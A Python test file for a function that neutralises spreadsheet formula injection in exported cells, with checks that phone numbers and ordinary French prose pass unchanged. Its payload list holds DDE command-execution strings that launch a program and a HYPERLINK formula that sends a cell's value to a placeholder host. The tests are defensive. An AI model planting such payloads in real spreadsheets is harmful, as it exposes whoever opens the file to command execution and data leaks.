"""What a spreadsheet could run, what it could not, and the way back."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from offre_insertion.publishing.neutralise import neutralise, neutralise_typed, restore

PAYLOADS = [
    '=HYPERLINK("http://exemple.fr?x="&A1)',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33612345678|cmd",
    "-Feuil2!A1",
    "+SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_get_an_apostrophe_in_every_kind_of_file(payload: str) -> None:
    assert neutralise(payload) == f"'{payload}"
    assert neutralise_typed(payload) == f"'{payload}"


@pytest.mark.parametrize("number", ["+33243000000", "+33 2 43 00 00 00", "-1.5", "-0.77123", "+590590000000"])
def test_phones_and_numbers_stay_as_they_are(number: str) -> None:
    assert neutralise(number) == number
    assert neutralise_typed(number) == number


@pytest.mark.parametrize(
    "text", ["- Aide au logement\n- Aide (CAF) au transport", "+ de 26 ans", "-25 ans : gratuit !"]
)
def test_prose_after_a_dash_is_left_whole_in_the_workbook_that_machines_read(text: str) -> None:
    assert neutralise_typed(text) == text
    assert neutralise(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Atelier = emploi", "'entre guillemets'", "", "12 rue du Pont", "’été"])
def test_other_texts_are_not_touched(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


@given(st.text(alphabet="=+-@\t\r'a1 (|!", max_size=8))
def test_no_cell_starts_as_a_formula_and_the_way_back_is_exact(text: str) -> None:
    written = neutralise(text)
    assert neutralise(written) == written
    assert not written.startswith(("=", "@", "\t", "\r"))
    if not text.startswith("'"):  # an apostrophe of the author's before a sign cannot be told from ours
        assert restore(written) == text
